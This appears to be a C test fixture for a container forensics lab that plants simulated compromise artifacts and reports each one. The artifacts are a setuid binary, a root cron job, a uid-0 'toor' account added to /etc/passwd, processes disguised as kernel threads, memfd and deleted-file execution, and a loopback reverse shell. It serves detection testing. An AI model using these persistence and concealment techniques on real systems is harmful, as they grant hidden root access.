// SPDX-License-Identifier: Apache-2.0
/*
 * planted.c - the attack that tests/lab/plant puts into a container, and what it looks like.
 *
 *   planted attack         inside the container, as root: plants everything, prints one line for
 *                          each thing: kind, path, pid, descriptor ("-" where there is none)
 *   planted content KIND   the same bytes on stdout, to compare with
 *
 * All content is a function of this program's own file, so it is known byte for byte. The program
 * is linked statically, needs nothing of the image, and does no harm: its processes only wait.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define PORT   4444
#define SELF   "/.planted" /* where `plant` puts us */
#define HELPER "/usr/bin/.helper"
#define CRON   "/etc/cron.d/.sync"
#define SHM    "/dev/shm/.x"
#define AGENT  "/tmp/.kworker"
#define LOOT   "/tmp/.loot"
#define MEMFD  "kdevtmpfs"
#define TELL   9 /* where a role finds the pipe to its starter */

#define WORD(s) ((char[]){ s })

static const char cron_text[] = "* * * * * root " HELPER " >/dev/null 2>&1\n";
static const char account[] = "toor:x:0:0:toor:/root:/bin/sh\n";

static void die(const char *what)
{
	fprintf(stderr, "planted: %s: %s\n", what, strerror(errno));
	exit(1);
}

static void put(int fd, const void *data, size_t len)
{
	const char *p = data;

	while (len > 0) {
		ssize_t n = write(fd, p, len);

		if (n < 0 && errno == EINTR)
			continue;
		if (n < 0)
			die("write");
		p += n;
		len -= (size_t)n;
	}
}

/* This program, with a last line that makes each copy another file. */
static void put_self(int fd, const char *kind)
{
	static char buf[65536];
	int self = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
	ssize_t n;

	if (self < 0)
		die("/proc/self/exe");
	while ((n = read(self, buf, sizeof(buf))) > 0)
		put(fd, buf, (size_t)n);
	if (n < 0)
		die("read /proc/self/exe");
	close(self);
	n = snprintf(buf, sizeof(buf), "\nimpound lab: %s\n", kind);
	put(fd, buf, (size_t)n);
}

/* Bytes that no compressor or sparse file can shorten. */
static void put_noise(int fd, unsigned int seed, size_t len)
{
	static unsigned char buf[4096];

	for (; len > 0; len -= sizeof(buf)) {
		for (size_t i = 0; i < sizeof(buf); i++) {
			seed = seed * 1664525U + 1013904223U;
			buf[i] = (unsigned char)(seed >> 24);
		}
		put(fd, buf, sizeof(buf));
	}
}

static int put_content(int fd, const char *kind)
{
	if (strcmp(kind, "setuid") == 0 || strcmp(kind, "deleted-exe") == 0 ||
	    strcmp(kind, "memfd-exe") == 0)
		put_self(fd, kind);
	else if (strcmp(kind, "shm") == 0)
		put_noise(fd, 1, 65536);
	else if (strcmp(kind, "deleted-file") == 0)
		put_noise(fd, 2, 131072);
	else if (strcmp(kind, "cron") == 0)
		put(fd, cron_text, sizeof(cron_text) - 1);
	else if (strcmp(kind, "passwd") == 0)
		put(fd, account, sizeof(account) - 1);
	else
		return -1;
	return 0;
}

static int create(const char *path, const char *kind, mode_t mode)
{
	int fd;

	unlink(path);
	fd = open(path, O_RDWR | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
	if (fd < 0)
		die(path);
	put_content(fd, kind);
	if (fchmod(fd, mode) < 0) /* also past the umask, and it keeps the setuid bit */
		die(path);
	return fd;
}

static void report(const char *kind, const char *path, pid_t pid, int fd)
{
	printf("%s\t%s\t", kind, path);
	printf(pid > 0 ? "%d\t" : "-\t", (int)pid);
	printf(fd >= 0 ? "%d\n" : "-\n", fd);
}

/* Appends the account once. */
static void change_passwd(void)
{
	static char text[1 << 20];
	int fd = open("/etc/passwd", O_RDWR | O_CREAT | O_CLOEXEC, 0644);
	ssize_t n;

	if (fd < 0 || (n = read(fd, text, sizeof(text) - 1)) < 0)
		die("/etc/passwd");
	text[n] = '\0';
	if (!strstr(text, account))
		put(fd, account, sizeof(account) - 1);
	close(fd);
}

static struct sockaddr_in loopback(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(PORT) };

	a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	return a;
}

/*
 * Starts a process that belongs to nobody and waits until it stands: a role says so by a byte,
 * the shell by becoming another program, which closes the pipe. exe is the open program, name
 * what `ps` shall show.
 */
static pid_t spawn(int exe, char *name, char *role, bool becomes_other)
{
	int ready[2], tell[2];
	pid_t pid = -1, child;
	char byte;

	if (pipe2(ready, O_CLOEXEC) < 0 || pipe2(tell, O_CLOEXEC) < 0)
		die("pipe");
	child = fork();
	if (child < 0)
		die("fork");
	if (child == 0) {
		int null = open("/dev/null", O_RDWR | O_CLOEXEC);
		char *argv[] = { name, role, NULL };
		char *envp[] = { WORD("PATH=/bin:/usr/bin"), NULL };

		setsid();
		child = fork();
		if (child != 0) {
			put(tell[1], &child, sizeof(child));
			_exit(0);
		}
		exe = fcntl(exe, F_DUPFD_CLOEXEC, 20);
		ready[1] = fcntl(ready[1], F_DUPFD_CLOEXEC, 20);
		if (dup2(null, 0) < 0 || dup2(null, 1) < 0 || dup2(null, 2) < 0 ||
		    dup2(ready[1], TELL) < 0)
			_exit(1);
		fexecve(exe, argv, envp);
		put(TELL, "F", 1);
		_exit(1);
	}
	close(tell[1]);
	close(ready[1]);
	if (read(tell[0], &pid, sizeof(pid)) != sizeof(pid) || pid <= 0)
		die("fork");
	waitpid(child, NULL, 0);
	if (read(ready[0], &byte, 1) != (becomes_other ? 0 : 1)) {
		errno = ECHILD;
		die(role);
	}
	close(tell[0]);
	close(ready[0]);
	return pid;
}

static void stand(void)
{
	put(TELL, "R", 1);
	close(TELL);
}

static void wait_for_ever(void)
{
	for (;;) /* a checkpoint interrupts the sleep */
		pause();
}

/* The agent: listens, takes one connection, answers nothing. */
static void run_agent(void)
{
	struct sockaddr_in a = loopback();
	int one = 1, peer, s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	char buf[512];

	if (s < 0 || setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one)) < 0 ||
	    bind(s, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(s, 4) < 0)
		_exit(1);
	prctl(PR_SET_NAME, "kworker/u8:2");
	stand();
	while ((peer = accept(s, NULL, NULL)) < 0 && errno == EINTR)
		;
	for (;;) {
		ssize_t n = read(peer, buf, sizeof(buf));

		if (n == 0 || (n < 0 && errno != EINTR))
			wait_for_ever();
	}
}

/* A file that only a descriptor still knows. */
static void run_holder(void)
{
	int fd = create(LOOT, "deleted-file", 0600);

	if (dup2(fd, 7) < 0 || unlink(LOOT) < 0)
		_exit(1);
	close(fd);
	prctl(PR_SET_NAME, MEMFD);
	stand();
	wait_for_ever();
}

/* The usual reverse shell: /bin/sh with a connection for its three descriptors. */
static void run_shell(void)
{
	struct sockaddr_in a = loopback();
	char *argv[] = { WORD("sh"), WORD("-i"), NULL };
	char *envp[] = { WORD("PATH=/bin:/usr/bin"), WORD("HISTFILE=/dev/null"), NULL };
	int s = socket(AF_INET, SOCK_STREAM, 0);

	if (s >= 0 && connect(s, (struct sockaddr *)&a, sizeof(a)) == 0 && dup2(s, 0) == 0 &&
	    dup2(s, 1) == 1 && dup2(s, 2) == 2) {
		close(s);
		fcntl(TELL, F_SETFD, FD_CLOEXEC);
		execve("/bin/sh", argv, envp);
	}
	put(TELL, "F", 1);
	_exit(1);
}

/* open_agent: the program as a file that will be gone; read only, or the kernel will not run it. */
static int open_agent(void)
{
	int fd;

	close(create(AGENT, "deleted-exe", 0755));
	fd = open(AGENT, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		die(AGENT);
	return fd;
}

static int open_memfd(void)
{
	int fd = memfd_create(MEMFD, MFD_CLOEXEC);

	if (fd < 0)
		die("memfd_create");
	put_content(fd, "memfd-exe");
	return fd;
}

static void attack(void)
{
	pid_t pid;
	int fd;

	mkdir("/usr", 0755);
	mkdir("/usr/bin", 0755);
	mkdir("/etc", 0755);
	mkdir("/etc/cron.d", 0755);
	mkdir("/tmp", 01777);

	close(create(HELPER, "setuid", 04755));
	report("setuid", HELPER, -1, -1);
	close(create(CRON, "cron", 0644));
	report("cron", CRON, -1, -1);
	change_passwd();
	report("passwd", "/etc/passwd", -1, -1);
	close(create(SHM, "shm", 0600));
	report("shm", SHM, -1, -1);

	fd = open_agent();
	pid = spawn(fd, WORD("[kworker/u8:2]"), WORD("agent"), false);
	if (unlink(AGENT) < 0)
		die(AGENT);
	close(fd);
	report("deleted-exe", AGENT, pid, -1);

	fd = open_memfd();
	pid = spawn(fd, WORD("[" MEMFD "]"), WORD("holder"), false);
	close(fd);
	report("memfd-exe", "/memfd:" MEMFD, pid, -1);
	report("deleted-file", LOOT, pid, 7);

	fd = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
	pid = spawn(fd, WORD("sh"), WORD("shell"), true);
	close(fd);
	report("shell", "/bin/sh", pid, 0);
	unlink(SELF);
	if (fflush(stdout) != 0 || ferror(stdout))
		die("stdout");
}

int main(int argc, char **argv)
{
	if (argc == 3 && strcmp(argv[1], "content") == 0 && put_content(1, argv[2]) == 0)
		return 0;
	if (argc == 2 && strcmp(argv[1], "attack") == 0) {
		attack();
		return 0;
	}
	/* The roles: a process list shows the name that spawn() gave, and this word. */
	if (argc == 2 && strcmp(argv[1], "agent") == 0)
		run_agent();
	if (argc == 2 && strcmp(argv[1], "holder") == 0)
		run_holder();
	if (argc == 2 && strcmp(argv[1], "shell") == 0)
		run_shell();
	fprintf(stderr, "usage: planted attack | content KIND\n");
	return 2;
}
